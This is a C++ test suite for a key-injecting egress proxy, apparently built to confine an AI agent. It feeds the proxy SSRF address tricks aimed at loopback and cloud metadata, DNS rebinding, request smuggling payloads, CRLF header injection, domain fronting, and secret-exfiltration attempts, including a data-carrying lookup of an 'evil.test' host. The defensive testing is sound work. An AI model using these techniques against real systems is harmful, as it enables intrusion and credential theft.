#include "core/egress/Injector.h"
#include "core/egress/Tls.h"
#include "core/leaks/Watch.h"
#include "tests/security/Attack.h"
#include "tests/security/EgressFixture.h"
#include "tests/unit/LeaksKit.h"

#include <QRegularExpression>

using namespace egresskit;
using attack::Attack;
using attack::Outcome;

namespace {

Outcome succeededIf(bool got)
{
    return got ? Outcome::Succeeded : Outcome::Refused;
}

const QByteArray kTreasure = "the treasure";

std::unique_ptr<Server> treasury(const Certificates* certificates = nullptr)
{
    return std::make_unique<Server>(
        [](const QByteArray&) { return ok(kTreasure); }, QString(), certificates);
}

/// A name that the list allows by a wildcard, and that leads to an inner address.
Attack leadsTo(const char* name, const char* defence, const char* address, bool connects = true)
{
    return {name, defence, [address, connects] {
                const auto server = treasury();
                World world({.allow = {u"*.friendly.test:*"_s}});
                world.resolver.set(u"a.friendly.test"_s, {{QString::fromLatin1(address)}});
                const QByteArray answer =
                    world.get("http://a.friendly.test:" + QByteArray::number(server->port) + "/");
                // Where TCP knows no connection the proxy has still tried.
                return succeededIf(answer.endsWith(kTreasure) ||
                                   (!connects && statusOf(answer) == 502));
            }};
}

/// An address or name in another spelling, with nothing on the list that names it and a person who
/// says yes to everything.
Attack spelled(const char* name,
               const char* defence,
               const char* host,
               const char* lookedUp = "",
               const char* address = "127.0.0.1")
{
    return {name, defence, [host, lookedUp, address] {
                const auto server = treasury();
                World world({});
                world.answer = [](const Question&) { return Future<bool>::ready(true); };
                world.resolver.set(QString::fromLatin1(lookedUp), {{QString::fromLatin1(address)}});
                return succeededIf(world
                                       .get("http://" + QByteArray(host) + ':' +
                                            QByteArray::number(server->port) + "/")
                                       .endsWith(kTreasure));
            }};
}

/// A request in two meanings, sent to a listed host: succeeds when the server gets anything of it.
Attack ambiguous(const char* name, const char* defence, const char* head, const char* rest)
{
    return {name, defence, [head, rest] {
                const auto server = treasury();
                World world({.allow = {u"a.test:*"_s}});
                world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
                Line line(world.port);
                QByteArray bytes(head);
                const QByteArray url = "http://a.test:" + QByteArray::number(server->port) + "/";
                bytes.replace("URL", url);
                line.write(bytes + rest);
                ::shutdown(line.fd(), SHUT_WR);
                line.readAll();
                return succeededIf(!server->asked().isEmpty());
            }};
}

QList<Attack> addressAttacks()
{
    return {
        leadsTo("egress.name-to-loopback", "egress.loopback", "127.0.0.1"),
        leadsTo("egress.name-to-other-loopback", "egress.loopback", "127.9.9.9"),
        leadsTo("egress.name-to-ipv6-loopback", "egress.loopback", "::1"),
        leadsTo("egress.name-to-private-10", "egress.private", "10.0.0.1"),
        leadsTo("egress.name-to-private-172", "egress.private", "172.16.5.5"),
        leadsTo("egress.name-to-private-192", "egress.private", "192.168.1.1"),
        leadsTo("egress.name-to-carrier-nat", "egress.carrier-nat", "100.64.0.1"),
        leadsTo("egress.name-to-link-local", "egress.link-local", "169.254.7.7"),
        leadsTo("egress.name-to-metadata", "egress.metadata", "169.254.169.254"),
        leadsTo("egress.name-to-container-metadata", "egress.metadata", "169.254.170.2"),
        leadsTo("egress.name-to-other-metadata", "egress.metadata", "100.100.100.200"),
        leadsTo("egress.name-to-ipv6-metadata", "egress.metadata", "fd00:ec2::254"),
        leadsTo("egress.name-to-unique-local", "egress.unique-local", "fd12:3456::1"),
        leadsTo("egress.name-to-this-network", "egress.this-network", "0.0.0.0"),
        leadsTo("egress.name-to-multicast", "egress.multicast", "224.0.0.1", false),
        leadsTo("egress.name-to-broadcast", "egress.broadcast", "255.255.255.255", false),
        leadsTo("egress.name-to-documentation", "egress.documentation", "192.0.2.1"),
        leadsTo("egress.name-to-benchmarking", "egress.benchmarking", "198.18.0.1"),
        leadsTo("egress.name-to-reserved", "egress.reserved", "240.0.0.1"),
        leadsTo("egress.name-to-mapped", "egress.mapped", "::ffff:127.0.0.1"),
        leadsTo("egress.name-to-compatible", "egress.compatible", "::10.0.0.1"),
        leadsTo("egress.name-to-nat64", "egress.nat64", "64:ff9b::a00:1"),
        leadsTo("egress.name-to-local-nat64", "egress.nat64", "64:ff9b:1::a9fe:a9fe"),
        leadsTo("egress.name-to-6to4", "egress.6to4", "2002:a00:1::1"),
        leadsTo("egress.name-to-teredo", "egress.teredo", "2001:0:1:2:3:4:f5ff:fffe"),
        spelled("egress.decimal-address", "egress.loopback", "2130706433"),
        spelled("egress.hexadecimal-address", "egress.loopback", "0x7f000001"),
        spelled("egress.octal-address", "egress.loopback", "0177.0.0.01"),
        spelled("egress.short-address", "egress.loopback", "127.1"),
        spelled("egress.dotted-hexadecimal-address", "egress.loopback", "0x7f.0x0.0x0.0x1"),
        spelled("egress.address-with-a-dot-behind", "egress.loopback", "127.0.0.1."),
        spelled("egress.localhost-with-a-dot-behind", "egress.loopback", "localhost.", "localhost"),
        {"egress.fullwidth-address",
         "egress.loopback",
         [] {
             const auto server = treasury();
             World world({});
             world.answer = [](const Question&) { return Future<bool>::ready(true); };
             const auto reply =
                 world.proxy
                     ->fetch({.url = u"http://\uff11\uff12\uff17.0.0.1:%1/"_s.arg(server->port)},
                             world.session)
                     .wait();
             return succeededIf(reply && reply->body == kTreasure);
         }},
        spelled("egress.mapped-address", "egress.mapped", "[::ffff:7f00:1]"),
        spelled("egress.percent-escapes", "egress.percent", "%61.test", "a.test", "93.184.216.34"),
        spelled("egress.characters-in-a-name",
                "egress.host-syntax",
                "a!b.test",
                "a!b.test",
                "93.184.216.34"),
    };
}

// Those spellings whose name is not what the resolver is asked for.
QList<Attack> nameAttacks()
{
    return {
        {"egress.user-name-hides-the-host",
         "egress.userinfo",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             return succeededIf(
                 world.get("http://user:password@a.test:" + QByteArray::number(server->port) + "/")
                     .endsWith(kTreasure));
         }},
        {"egress.look-alike-name",
         "egress.look-alike",
         [] {
             // A person in a hurry says yes to what looks right.
             const auto server = treasury();
             World world({.allow = {u"paypal.com:*"_s}});
             world.answer = [](const Question&) { return Future<bool>::ready(true); };
             world.resolver.set(u"xn--pypal-4ve.com"_s, {{u"93.184.216.34"_s}});
             return succeededIf(
                 world.get("http://xn--pypal-4ve.com:" + QByteArray::number(server->port) + "/")
                     .endsWith(kTreasure));
         }},
        {"egress.unlisted-host",
         "egress.list",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"b.test"_s, {{u"93.184.216.34"_s}});
             return succeededIf(world.get("http://b.test:" + QByteArray::number(server->port) + "/")
                                    .endsWith(kTreasure));
         }},
        {"egress.unlisted-tunnel",
         "egress.list",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"b.test"_s, {{u"93.184.216.34"_s}});
             return succeededIf(
                 world
                     .raw("CONNECT b.test:" + QByteArray::number(server->port) +
                          " HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nConnection: close\r\n\r\n")
                     .startsWith("HTTP/1.1 200"));
         }},
        {"egress.name-look-up-carries-data",
         "egress.list",
         [] {
             World world({});
             [[maybe_unused]] const QByteArray answer = world.get("http://s3cret-data.evil.test/");
             return succeededIf(world.resolver.asked.contains(u"s3cret-data.evil.test"_s));
         }},
        {"egress.rebinding",
         "egress.checked-address",
         [] {
             // Public when it is checked, this machine when it is connected to.
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}, {u"127.0.0.1"_s}});
             [[maybe_unused]] const QByteArray answer =
                 world.get("http://a.test:" + QByteArray::number(server->port) + "/");
             return succeededIf(server->addresses().contains(u"::ffff:127.0.0.1"_s));
         }},
        {"egress.mixed-answer",
         "egress.private",
         [] {
             // The inner address comes first, the public one nobody serves.
             Server server([](const QByteArray&) { return ok(kTreasure); }, u"10.0.0.1"_s);
             World world({.allow = {u"a.test:*"_s, u"*.b.test:*"_s}});
             world.resolver.set(u"x.b.test"_s, {{u"10.0.0.1"_s, u"93.184.216.34"_s}});
             return succeededIf(
                 world.get("http://x.b.test:" + QByteArray::number(server.port) + "/")
                     .endsWith(kTreasure));
         }},
        {"egress.redirect-to-metadata",
         "egress.redirects",
         [] {
             const auto inner = treasury();
             Server outer([port = inner->port](const QByteArray&) -> QByteArray {
                 return "HTTP/1.1 302 Found\r\nLocation: http://169.254.169.254:" +
                        QByteArray::number(port) + "/latest\r\nContent-Length: 0\r\n\r\n";
             });
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             const auto reply =
                 world.proxy->fetch({.url = u"http://a.test:%1/"_s.arg(outer.port)}, world.session)
                     .wait();
             return succeededIf(reply && reply->body == kTreasure);
         }},
        {"egress.redirect-to-unlisted-host",
         "egress.redirects",
         [] {
             const auto inner = treasury();
             Server outer([port = inner->port](const QByteArray&) -> QByteArray {
                 return "HTTP/1.1 307 Moved\r\nLocation: http://b.test:" +
                        QByteArray::number(port) + "/\r\nContent-Length: 0\r\n\r\n";
             });
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             world.resolver.set(u"b.test"_s, {{u"93.184.216.35"_s}});
             const auto reply =
                 world.proxy->fetch({.url = u"http://a.test:%1/"_s.arg(outer.port)}, world.session)
                     .wait();
             return succeededIf(reply && reply->body == kTreasure);
         }},
    };
}

QList<Attack> smugglingAttacks()
{
    return {
        ambiguous("egress.two-lengths",
                  "egress.one-length",
                  "POST URL HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\n"
                  "Transfer-Encoding: chunked\r\n\r\n",
                  "0\r\n\r\nGET /hidden HTTP/1.1\r\n\r\n"),
        ambiguous("egress.unknown-transfer-encoding",
                  "egress.transfer-encoding",
                  "POST URL HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: gzip, chunked\r\n\r\n",
                  "0\r\n\r\n"),
        ambiguous("egress.chunked-in-old-http",
                  "egress.transfer-encoding",
                  "POST URL HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
                  "0\r\n\r\n"),
        ambiguous("egress.bare-line-feed",
                  "egress.line-ends",
                  "GET URL HTTP/1.1\r\nHost: a\nX-Hidden: 1\r\n\r\n",
                  ""),
        ambiguous("egress.folded-header",
                  "egress.header-syntax",
                  "GET URL HTTP/1.1\r\nHost: a\r\nX-One: 1\r\n two: 2\r\n\r\n",
                  ""),
        ambiguous("egress.control-character-in-header",
                  "egress.header-syntax",
                  "GET URL HTTP/1.1\r\nHost: a\r\nX-One: 1\x01two\r\n\r\n",
                  ""),
        ambiguous("egress.blanks-behind-chunk-size",
                  "egress.chunk-size",
                  "POST URL HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
                  "3 \r\nabc\r\n0\r\n\r\n"),
        ambiguous("egress.two-hosts",
                  "egress.one-host",
                  "GET URL HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
                  ""),
        ambiguous("egress.trace", "egress.trace", "TRACE URL HTTP/1.1\r\nHost: a\r\n\r\n", ""),
        {"egress.other-host-header",
         "egress.host-header",
         [] {
             // The same machine serves both names: the header chooses.
             Server server([](const QByteArray& request) {
                 return ok(request.contains("Host: inner.test") ? kTreasure : "nothing");
             });
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             return succeededIf(
                 world
                     .raw("GET http://a.test:" + QByteArray::number(server.port) +
                          "/ HTTP/1.1\r\nHost: inner.test\r\nConnection: close\r\n\r\n")
                     .endsWith(kTreasure));
         }},
        {"egress.hop-by-hop-header",
         "egress.hop-by-hop",
         [] {
             Server server([](const QByteArray&) { return ok("x"); });
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             [[maybe_unused]] const QByteArray answer =
                 world.get("http://a.test:" + QByteArray::number(server.port) + "/",
                           "Proxy-Authorization: Basic c2VjcmV0\r\n");
             return succeededIf(server.asked().contains("c2VjcmV0"));
         }},
        {"egress.line-end-in-fetched-header",
         "egress.header-lines",
         [] {
             Server server([](const QByteArray&) { return ok("x"); });
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             const auto reply = world.proxy
                                    ->fetch({.url = u"http://a.test:%1/"_s.arg(server.port),
                                             .headers = {{"X-One", "1\r\nX-Admin: yes"}}},
                                            world.session)
                                    .wait();
             return succeededIf(server.asked().contains("\r\nX-Admin: yes\r\n"));
         }},
    };
}

/// A host with a key, another without, and a proxy that knows both.
struct Keyed
{
    Certificates certificates{{u"git.test"_s, u"other.test"_s}};
    Server git;
    Server other;
    World world;

    explicit Keyed(
        Server::Handler handler = [](const QByteArray&) { return ok("x"); },
        const QByteArray& key = "t0p-s3cret")
        : git(handler, {}, &certificates)
        , other(std::move(handler))
        , world({.allow = {place(), u"other.test:*"_s},
                 .inject = {{place(), u"Authorization"_s, u"signalbox:git"_s, u"keys/git"_s}}},
                certificates.authorities)
    {
        world.resolver.set(u"git.test"_s, {{u"93.184.216.34"_s}});
        world.resolver.set(u"other.test"_s, {{u"93.184.216.35"_s}});
        world.keys[u"keys/git"_s] = key;
    }
    [[nodiscard]] QString place() const { return u"git.test:"_s + QString::number(git.port); }
    [[nodiscard]] QByteArray url() const { return "http://" + place().toLatin1() + "/"; }
};

QList<Attack> keyAttacks()
{
    return {
        {"egress.key-for-another-host",
         "egress.injection-host",
         [] {
             Keyed keyed;
             [[maybe_unused]] const QByteArray answer =
                 keyed.world.get("http://other.test:" + QByteArray::number(keyed.other.port) + "/",
                                 "Authorization: Bearer signalbox:git\r\n");
             return succeededIf(keyed.other.asked().contains("t0p-s3cret"));
         }},
        {"egress.key-in-another-header",
         "egress.injection-header",
         [] {
             // A server may show again what stands in a header of the client's choice.
             Keyed keyed;
             [[maybe_unused]] const QByteArray answer =
                 keyed.world.get(keyed.url(), "X-Shown: signalbox:git\r\n");
             return succeededIf(keyed.git.asked().contains("X-Shown: t0p-s3cret"));
         }},
        {"egress.key-without-tls",
         "egress.upgrade",
         [] {
             // The listed host also has somebody who listens to plain requests.
             Server plain([](const QByteArray&) { return ok("x"); });
             const QString place = u"plain.test:"_s + QString::number(plain.port);
             World world({.allow = {place},
                          .inject = {{place, u"Authorization"_s, u"signalbox:p"_s, u"keys/p"_s}}});
             world.resolver.set(u"plain.test"_s, {{u"93.184.216.34"_s}});
             world.keys[u"keys/p"_s] = "t0p-s3cret";
             [[maybe_unused]] const QByteArray answer = world.get(
                 "http://" + place.toLatin1() + "/", "Authorization: Bearer signalbox:p\r\n");
             return succeededIf(plain.asked().contains("t0p-s3cret"));
         }},
        {"egress.server-shows-the-key",
         "egress.echo",
         [] {
             Keyed keyed([](const QByteArray& request) { return ok(request); });
             const QByteArray answer =
                 keyed.world.get(keyed.url(), "Authorization: Bearer signalbox:git\r\n");
             return succeededIf(answer.contains("t0p-s3cret"));
         }},
        {"egress.server-shows-the-key-in-a-header",
         "egress.echo",
         [] {
             Keyed keyed([](const QByteArray&) { return ok("x", "X-Echo: t0p-s3cret\r\n"); });
             const QByteArray answer =
                 keyed.world.get(keyed.url(), "Authorization: Bearer signalbox:git\r\n");
             return succeededIf(answer.contains("t0p-s3cret"));
         }},
        {"egress.server-shows-basic",
         "egress.echo",
         [] {
             Keyed keyed([](const QByteArray& request) { return ok(request); });
             const QByteArray answer = keyed.world.get(
                 keyed.url(), "Authorization: Basic " + "u:signalbox:git"_ba.toBase64() + "\r\n");
             return succeededIf(answer.contains("u:t0p-s3cret"_ba.toBase64()));
         }},
        {"egress.key-with-lines",
         "egress.key-lines",
         [] {
             Keyed keyed([](const QByteArray&) { return ok("x"); }, "k\r\nX-Admin: yes");
             [[maybe_unused]] const QByteArray answer =
                 keyed.world.get(keyed.url(), "Authorization: Bearer signalbox:git\r\n");
             return succeededIf(keyed.git.asked().contains("\r\nX-Admin: yes"));
         }},
    };
}

/// Finds a word.
class WordScanner final : public BodyScanner
{
public:
    bool feed(QByteArrayView bytes) override
    {
        m_text += bytes;
        return m_text.contains("AKIA-LEAK");
    }
    bool finish() override { return m_text.contains("AKIA-LEAK"); }
    [[nodiscard]] qint64 safeBytes() const override { return m_text.size(); }

private:
    QByteArray m_text;
};

Attack leaks(const char* name, const char* path, const char* header, const char* body)
{
    return {name, "egress.scan", [path, header, body] {
                Server server([](const QByteArray&) { return ok("x"); });
                World world({.allow = {u"a.test:*"_s}});
                world.scanner = [] { return std::make_unique<WordScanner>(); };
                world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
                [[maybe_unused]] const QByteArray answer = world.raw(
                    "POST http://a.test:" + QByteArray::number(server.port) + path +
                    " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + header +
                    "Content-Length: " + QByteArray::number(qstrlen(body)) + "\r\n\r\n" + body);
                return succeededIf(server.asked().contains("AKIA-LEAK"));
            }};
}

/// A proxy that knows the value as the program does, before a server that anybody may use.
struct Watched
{
    static inline const QByteArray value = "Fk3xT9vQ2mZr8LpWwN5cYb7Dq";

    Server server{[](const QByteArray&) { return ok("x"); }};
    World world{{.allow = {u"a.test:*"_s}}};

    Watched()
    {
        world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}, {u"93.184.216.34"_s}});
        world.scanner = [] { return std::make_unique<ValueScanner>(); };
    }
    [[nodiscard]] QByteArray url() const
    {
        return "http://a.test:" + QByteArray::number(server.port) + "/";
    }

private:
    class ValueScanner final : public BodyScanner
    {
    public:
        bool feed(QByteArrayView bytes) override { return m_body.feed(bytes); }
        bool finish() override { return m_body.finish(); }
        [[nodiscard]] qint64 safeBytes() const override { return m_body.safeBytes(); }

    private:
        static sb::leaks::Watch watch()
        {
            const auto scanner = leakskit::knowing(value);
            return {[scanner] { return scanner; }, {}};
        }
        sb::leaks::BodyWatch m_body{watch(), {}};
    };
};

QByteArray withoutFraming(const QByteArray& message)
{
    static const QRegularExpression framing(u"\r\n([0-9a-f]+\r\n)?"_s);
    return QString::fromLatin1(message).remove(framing).toLatin1();
}

// A body that comes as slowly as its sender likes; the pauses are the attack. It wants the
// beginning of the value to be gone before anybody can know what it is.
Outcome trickled(const QByteArrayList& pieces, bool chunked)
{
    Watched watched;
    Line line(watched.world.port);
    QByteArray whole;
    for (const QByteArray& piece : pieces) {
        whole += piece;
    }
    line.write("POST " + watched.url() + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" +
               (chunked ? QByteArray("Transfer-Encoding: chunked")
                        : "Content-Length: " + QByteArray::number(whole.size())) +
               "\r\n\r\n");
    for (const QByteArray& piece : pieces) {
        line.write(chunked ? QByteArray::number(piece.size(), 16) + "\r\n" + piece + "\r\n"
                           : piece);
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    line.write(chunked ? "0\r\n\r\n" : "");
    const QByteArray answer = line.readAll();
    QByteArray arrived = watched.server.asked();
    arrived = chunked ? withoutFraming(arrived) : arrived;
    const bool refused = statusOf(answer) == 403;
    return succeededIf(!refused || arrived.contains(Watched::value.first(4)));
}

QByteArrayList letters(const QByteArray& text)
{
    QByteArrayList all;
    for (const char c : text) {
        all.append(QByteArray(1, c));
    }
    return all;
}

Outcome frontThrough(const char* inside)
{
    const Certificates certificates({u"a.test"_s, u"hidden.test"_s});
    const auto server = treasury(&certificates);
    World world({.allow = {u"a.test:*"_s}});
    world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
    Line line(world.port);
    line.write("CONNECT a.test:" + QByteArray::number(server->port) + " HTTP/1.1\r\n\r\n");
    line.readUntil("\r\n\r\n");
    SSL_CTX* context = SSL_CTX_new(TLS_client_method());
    SSL* ssl = SSL_new(context);
    SSL_set_tlsext_host_name(ssl, inside);
    SSL_set_fd(ssl, line.fd());
    const bool through = SSL_connect(ssl) == 1;
    SSL_free(ssl);
    SSL_CTX_free(context);
    ERR_clear_error();
    return succeededIf(through);
}

// A person let this one address through; every other check stands.
Outcome approved(const QByteArray& host, const QStringList& addresses, const QString& listed = {})
{
    const auto server = treasury();
    World world({.allow = listed.isEmpty() ? QStringList() : QStringList{listed}});
    world.resolver.set(QString::fromLatin1(host), {addresses});
    FetchRequest request;
    const QString place = QString::fromLatin1(host) + u':' + QString::number(server->port);
    request.url = u"http://"_s + place + u'/';
    request.approved = place;
    const auto reply = world.proxy->fetch(std::move(request), world.session, {}).wait();
    return succeededIf(reply && reply->body.contains(kTreasure));
}

Outcome approvedRedirect()
{
    const auto treasures = treasury();
    const QByteArray elsewhere =
        "http://elsewhere.test:" + QByteArray::number(treasures->port) + "/";
    Server server([elsewhere](const QByteArray&) {
        return "HTTP/1.1 302 Found\r\nLocation: " + elsewhere + "\r\nContent-Length: 0\r\n\r\n";
    });
    World world(Rules{});
    world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
    world.resolver.set(u"elsewhere.test"_s, {{u"93.184.216.35"_s}});
    FetchRequest request;
    const QString place = u"a.test:"_s + QString::number(server.port);
    request.url = u"http://"_s + place + u'/';
    request.approved = place;
    const auto reply = world.proxy->fetch(std::move(request), world.session, {}).wait();
    return succeededIf(reply && reply->body.contains(kTreasure));
}

QList<Attack> otherAttacks()
{
    return {
        leaks("egress.secret-in-the-address", "/?k=AKIA-LEAK", "", ""),
        leaks("egress.secret-in-a-header", "/", "X-Data: AKIA-LEAK\r\n", ""),
        leaks("egress.secret-in-the-body", "/", "", "data AKIA-LEAK data"),
        {"egress.secret-letter-by-letter",
         "egress.hold",
         [] { return trickled(letters("k=" + Watched::value + "&x=1"), false); }},
        {"egress.secret-letter-by-letter-in-chunks",
         "egress.hold",
         [] { return trickled(letters("k=" + Watched::value + "&x=1"), true); }},
        {"egress.secret-cut-in-two",
         "egress.hold",
         [] {
             return trickled({"k=" + Watched::value.first(20), Watched::value.sliced(20)}, false);
         }},
        {"egress.secret-coded-and-cut",
         "egress.hold",
         [] {
             // Here the attacker wants the first half in base64.
             const QByteArray coded = Watched::value.toBase64();
             Watched watched;
             Line line(watched.world.port);
             line.write("POST " + watched.url() + " HTTP/1.1\r\nHost: x\r\nContent-Length: " +
                        QByteArray::number(coded.size()) + "\r\n\r\n" + coded.first(24));
             std::this_thread::sleep_for(std::chrono::milliseconds(50));
             line.write(coded.sliced(24));
             [[maybe_unused]] const QByteArray answer = line.readUntil("\r\n\r\n");
             return succeededIf(watched.server.asked().contains(coded.first(16)));
         }},
        {"egress.secret-in-what-fetch-sends",
         "egress.scan",
         [] {
             Watched watched;
             FetchRequest request;
             request.url = QString::fromLatin1(watched.url());
             request.method = "POST";
             request.body = "k=" + Watched::value;
             (void)watched.world.proxy->fetch(std::move(request), watched.world.session, {}).wait();
             return succeededIf(watched.server.asked().contains(Watched::value));
         }},
        {"egress.approved-metadata-address",
         "egress.metadata",
         [] { return approved("metadata.test", {u"169.254.169.254"_s}); }},
        {"egress.approved-private-address",
         "egress.private",
         [] { return approved("inner.test", {u"10.0.0.1"_s}); }},
        {"egress.approved-this-machine",
         "egress.loopback",
         [] { return approved("self.test", {u"127.0.0.1"_s}); }},
        {"egress.approved-look-alike",
         "egress.look-alike",
         [] { return approved("xn--pypal-4ve.test", {u"93.184.216.34"_s}, u"paypal.test:*"_s); }},
        {"egress.approved-redirects-elsewhere", "egress.redirects", approvedRedirect},
        {"egress.domain-fronting", "egress.sni", [] { return frontThrough("hidden.test"); }},
        {"egress.broken-hello",
         "egress.sni",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             Line line(world.port);
             line.write("CONNECT a.test:" + QByteArray::number(server->port) + " HTTP/1.1\r\n\r\n");
             line.readUntil("\r\n\r\n");
             line.write("\x16\x01\x01\x01\x01 GET / HTTP/1.1\r\n\r\n");
             ::shutdown(line.fd(), SHUT_WR);
             line.readAll();
             return succeededIf(!server->asked().isEmpty());
         }},
        {"egress.more-bytes-than-allowed",
         "egress.byte-budget",
         [] {
             Server server([](const QByteArray&) { return ok(QByteArray(1 << 20, 'x')); });
             World world({.allow = {u"a.test:*"_s}, .budget = {.bytesPerDay = 100'000}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             const QByteArray answer =
                 world.get("http://a.test:" + QByteArray::number(server.port) + "/");
             return succeededIf(answer.size() > 1 << 20);
         }},
        {"egress.more-connections-than-allowed-today",
         "egress.daily-connections",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}, .budget = {.connectionsPerDay = 2}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             const QByteArray url = "http://a.test:" + QByteArray::number(server->port) + "/";
             [[maybe_unused]] const QByteArray first = world.get(url);
             [[maybe_unused]] const QByteArray second = world.get(url);
             return succeededIf(world.get(url).endsWith(kTreasure));
         }},
        {"egress.more-connections-than-allowed-at-once",
         "egress.open-connections",
         [] {
             const auto server = treasury();
             World world({.allow = {u"a.test:*"_s}, .budget = {.connections = 1}});
             world.resolver.set(u"a.test"_s, {{u"93.184.216.34"_s}});
             const QByteArray connect =
                 "CONNECT a.test:" + QByteArray::number(server->port) + " HTTP/1.1\r\n\r\n";
             Line first(world.port);
             first.write(connect);
             first.readUntil("\r\n\r\n");
             Line second(world.port);
             second.write(connect);
             return succeededIf(statusOf(second.readUntil("\r\n\r\n")) == 200);
         }},
    };
}

QList<Attack> attacks()
{
    return addressAttacks() + nameAttacks() + smugglingAttacks() + keyAttacks() + otherAttacks();
}

} // namespace

class tst_EgressAttacks : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void attack_data() { attack::addRows(attacks()); }
    void attack() { attack::check(attacks()); }

    void whatIsHeldBackArrivesInTheEnd()
    {
        // Each ends like the value begins, and goes on differently, or not at all.
        const QByteArray begun = Watched::value.first(20);
        const QByteArrayList pieces{"k=" + begun, "&x=" + begun, "1 " + Watched::value.first(5)};
        for (const bool chunked : {false, true}) {
            Watched watched;
            Line line(watched.world.port);
            const QByteArray body = pieces.join();
            line.write("POST " + watched.url() + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" +
                       (chunked ? QByteArray("Transfer-Encoding: chunked")
                                : "Content-Length: " + QByteArray::number(body.size())) +
                       "\r\n\r\n");
            for (const QByteArray& piece : pieces) {
                line.write(chunked ? QByteArray::number(piece.size(), 16) + "\r\n" + piece + "\r\n"
                                   : piece);
            }
            line.write(chunked ? "0\r\n\r\n" : "");
            QCOMPARE(statusOf(line.readAll()), 200);
            const QByteArray asked = watched.server.asked();
            QCOMPARE(chunked ? withoutFraming(asked).contains(body) : asked.endsWith(body), true);
        }
    }

    void refusalsSayWhyInOneSentence()
    {
        Keyed keyed;
        const QByteArray answer =
            keyed.world.get("http://other.test/", "Authorization: Bearer signalbox:git\r\n");
        const QByteArray place = keyed.place().toLatin1();
        QVERIFY(answer.endsWith(
            QByteArray("\r\n\r\nThe placeholder signalbox:git stands for a key of " + place +
                       " and is of no use for other.test:80.\n")));
        World world({.allow = {u"*.a.test:80"_s}});
        world.resolver.set(u"x.a.test"_s, {{u"169.254.169.254"_s}});
        QVERIFY(world.get("http://x.a.test/")
                    .endsWith("x.a.test leads to 169.254.169.254, an address of a cloud's metadata "
                              "service, which is refused unless it is on the agent's list "
                              "itself.\n"));
        QVERIFY(world.written().contains("\"verdict\":\"refused\""));
    }
};

EGRESS_TEST_MAIN(tst_EgressAttacks)
#include "tst_EgressAttacks.moc"
